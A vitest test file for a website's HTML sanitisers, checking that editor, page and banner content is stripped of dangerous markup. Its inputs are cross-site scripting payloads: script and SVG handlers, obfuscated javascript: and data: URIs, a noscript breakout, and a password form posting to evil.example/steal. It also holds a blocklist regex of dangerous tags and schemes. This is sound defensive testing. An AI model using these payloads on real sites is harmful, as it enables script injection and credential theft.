import { describe, expect, it } from "vitest";
import { sanitizeBannerHtml, sanitizePageHtml, sanitizeRichHtml, VIDEO_EMBED_PREFIXES } from "./sanitize";

/*
 * The content sanitisers (issue 18 "Done means"): what an editor, a seed or a hand-edited row may put
 * in a page, post, campaign or banner, and what reaches the browser. Each runs on save and again on
 * render (read-api.int.test.ts and static-page-render.int.test.ts check the render side on rows
 * written straight into the table). Decisions tested here (decision 050):
 * - links: http(s), mailto, tel, same-site paths and #fragments; anything else keeps only its text;
 * - images (rich text only): https from any host, or a same-site path; an SVG file by <img> is allowed
 *   on those terms (an <img> never runs an SVG's scripts), inline <svg> and data: never;
 * - iframes (rich text only): the allow-listed video players (VIDEO_EMBED_PREFIXES), nothing else.
 */
const SANITISERS = { rich: sanitizeRichHtml, page: sanitizePageHtml, banner: sanitizeBannerHtml } as const;
const ALL = Object.entries(SANITISERS);

/** What must never survive any sanitiser. */
const DANGER = /<script|<style|<svg|<math|<form|<input|<button|<textarea|<select|<meta|<base|<link|<object|<embed|<template|\son\w+=|style=|javascript:|vbscript:|data:|srcdoc/i;

describe.each(ALL)("%s sanitiser", (_name, clean) => {
  it.each([
    ["a script", "<p>Hi<script>alert(1)</script></p>", "Hi"],
    ["a script split across tags", "<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"],
    ["a style element", "<style>body{display:none}</style><p>Hi</p>", "Hi"],
    ["event handlers", '<p onclick="x()" onmouseover="y()">Hi</p>', "Hi"],
    ["a handler on a link", '<a href="/jobs" onfocus="x()" autofocus>Jobs</a>', "Jobs"],
    ["a style attribute, a class and an id", '<p style="position:fixed;inset:0" class="x" id="y">Hi</p>', "Hi"],
    ["a form with inputs", '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>', "Send"],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hi</p>', "Hi"],
    ["a base tag", '<base href="https://evil.example/"><p>Hi</p>', "Hi"],
    ["object and embed", '<object data="x.swf"><embed src="x.swf"></object><p>Hi</p>', "Hi"],
    ["a stylesheet link", '<link rel="stylesheet" href="https://evil.example/x.css"><p>Hi</p>', "Hi"],
    ["inline SVG with a handler and a script", '<p>a<svg onload="alert(1)"><script>alert(1)</script><circle r="1"/></svg>b</p>', "ab"],
    ["MathML with a javascript: link", '<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>Hi</p>', "Hi"],
    ["a details element with ontoggle", '<details open ontoggle="alert(1)"><summary>Hi</summary></details>', "Hi"],
    ["a template", "<template><img src=x onerror=alert(1)></template><p>Hi</p>", "Hi"],
    ["a noscript breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hi</p>', "Hi"],
  ])("removes %s", (_what, html, text) => {
    const out = clean(html);
    expect(out).not.toMatch(DANGER);
    expect(out.replace(/<[^>]+>/g, "")).toBe(text);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#9;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "//evil.example/phish",
    "/\\evil.example/phish",
    "file:///etc/passwd",
  ])("keeps only the text of a link to %j", (href) => {
    const out = clean(`<p>Go <a href="${href}">there</a> now</p>`);
    expect(out).not.toMatch(/<a|javascript|vbscript|data:|evil|file:/i);
    expect(out.replace(/<\/?p>/g, "")).toBe("Go there now");
  });

  it("keeps safe links, marking external ones noopener", () => {
    expect(clean('<a href="/jobs?q=nurse#top">Jobs</a> <a href="#faq">FAQ</a> <a href="mailto:a@b.example">Mail</a> <a href="tel:+18005550142">Call</a>')).toBe(
      '<a href="/jobs?q=nurse#top">Jobs</a> <a href="#faq">FAQ</a> <a href="mailto:a@b.example">Mail</a> <a href="tel:+18005550142">Call</a>',
    );
    expect(clean('<a href="https://example.com/x" target="_blank">out</a>')).toBe('<a href="https://example.com/x" rel="noopener noreferrer">out</a>');
    expect(clean('<a href="/jobs" onfocus="x()" autofocus>Jobs</a>')).toBe('<a href="/jobs">Jobs</a>');
  });
});

describe("rich text images (posts, pages, campaign sections)", () => {
  it("keeps https images from any host, SVG files included, and same-site paths, with alt text and lazy loading", () => {
    expect(sanitizeRichHtml('<img src="https://cdn.example/chart.svg" alt="Pay by year">')).toBe('<img src="https://cdn.example/chart.svg" alt="Pay by year" loading="lazy" />');
    expect(sanitizeRichHtml('<img src="/api/files/0b7e0f0e.png" alt="" onerror="alert(1)" style="x" class="c" width="640">')).toBe(
      '<img src="/api/files/0b7e0f0e.png" alt="" width="640" loading="lazy" />',
    );
    expect(sanitizeRichHtml('<img src="/images/blog/resume.png">')).toBe('<img src="/images/blog/resume.png" alt="" loading="lazy" />');
  });

  it.each([
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    " JAVASCRIPT:alert(1)",
    "http://cdn.example/x.png",
    "//cdn.example/x.png",
    "/\\cdn.example/x.png",
    "x",
    "",
  ])("drops an image whose source is %j, whole, and the markup around it stays well formed", (src) => {
    const out = sanitizeRichHtml(`<p>a<img src="${src}" alt="x">b</p><img src="/ok.png" alt="ok">`);
    expect(out).toBe('<p>ab</p><img src="/ok.png" alt="ok" loading="lazy" />');
  });

  it("drops an image without a source and one with only a srcset", () => {
    expect(sanitizeRichHtml('<p><img alt="x"><img srcset="https://evil.example/x.png 1x">t</p>')).toBe("<p>t</p>");
  });

  it("drops images from page and banner HTML, which take none", () => {
    expect(sanitizePageHtml('<p>a<img src="https://cdn.example/x.png" alt="x">b</p>')).toBe("<p>ab</p>");
    expect(sanitizeBannerHtml('a<img src="https://cdn.example/x.png" alt="x">b')).toBe("ab");
  });
});

describe("rich text video embeds", () => {
  it.each(VIDEO_EMBED_PREFIXES.map((p) => [p]))("keeps a player from %s with only its own attributes", (prefix) => {
    expect(sanitizeRichHtml(`<iframe src="${prefix}abc123" onload="x()" srcdoc="<script>alert(1)</script>" style="x" sandbox="" width="560"></iframe>`)).toBe(
      `<iframe src="${prefix}abc123" title="Embedded video" allowfullscreen loading="lazy"></iframe>`,
    );
  });

  it.each([
    "https://evil.example/embed/abc",
    "https://www.youtube.com.evil.example/embed/abc",
    "https://www.youtube.com/watch?v=abc",
    "http://www.youtube.com/embed/abc",
    "//www.youtube.com/embed/abc",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "",
  ])("drops any other iframe (%j), its fallback text too", (src) => {
    expect(sanitizeRichHtml(`<p>a</p><iframe src="${src}">fallback</iframe><p>b</p>`)).toBe("<p>a</p><p>b</p>");
  });

  it("drops an iframe with only srcdoc, and every iframe from page and banner HTML", () => {
    expect(sanitizeRichHtml('<iframe srcdoc="<script>alert(1)</script>"></iframe><p>t</p>')).toBe("<p>t</p>");
    expect(sanitizePageHtml('<iframe src="https://www.youtube.com/embed/abc"></iframe><p>t</p>')).toBe("<p>t</p>");
    expect(sanitizeBannerHtml('<iframe src="https://www.youtube.com/embed/abc"></iframe>t')).toBe("t");
  });
});

describe("structure", () => {
  it("keeps the rich text structure the editor makes, h1 turned into h2", () => {
    const html =
      '<h1>T</h1><h3>S</h3><p><strong>b</strong> <em>i</em> <s>s</s> <u>u</u> <code>c</code> x<sub>2</sub></p><blockquote><p>q</p></blockquote><pre><code>x = 1</code></pre><hr><ul><li>a</li></ul><ol><li>b</li></ol><figure><img src="/a.png" alt="a"><figcaption>Cap</figcaption></figure><table><tr><th scope="col" colspan="2">h</th></tr><tr><td rowspan="2">d</td></tr></table>';
    expect(sanitizeRichHtml(html)).toBe(
      '<h2>T</h2><h3>S</h3><p><strong>b</strong> <em>i</em> <s>s</s> <u>u</u> <code>c</code> x<sub>2</sub></p><blockquote><p>q</p></blockquote><pre><code>x = 1</code></pre><hr /><ul><li>a</li></ul><ol><li>b</li></ol><figure><img src="/a.png" alt="a" loading="lazy" /><figcaption>Cap</figcaption></figure><table><tr><th scope="col" colspan="2">h</th></tr><tr><td rowspan="2">d</td></tr></table>',
    );
  });

  it("keeps page structure and banner emphasis as before", () => {
    expect(sanitizePageHtml('<h1>T</h1><p>a<img src=x onerror=alert(1)></p><iframe src="https://x"></iframe><table><tr><th scope="col">h</th></tr></table>')).toBe(
      '<h2>T</h2><p>a</p><table><tr><th scope="col">h</th></tr></table>',
    );
    expect(sanitizeBannerHtml('<script>alert(1)</script>Hi <b onclick="x()">there</b> <a href="javascript:alert(1)">click</a> <i>now</i>')).toBe("Hi <b>there</b> click <i>now</i>");
    expect(sanitizeBannerHtml('<p style="color:red">New <a href="/jobs">jobs</a></p>')).toBe('New <a href="/jobs">jobs</a>');
  });

  it("is stable: cleaning clean output changes nothing (save, then render)", () => {
    const dirty = '<h1>T</h1><p onclick="x()">a <a href="https://e.example">l</a><img src="https://e.example/i.png" alt="i"></p><iframe src="https://player.vimeo.com/video/1"></iframe>';
    const once = sanitizeRichHtml(dirty);
    expect(sanitizeRichHtml(once)).toBe(once);
    expect(sanitizePageHtml(sanitizePageHtml(dirty))).toBe(sanitizePageHtml(dirty));
  });
});
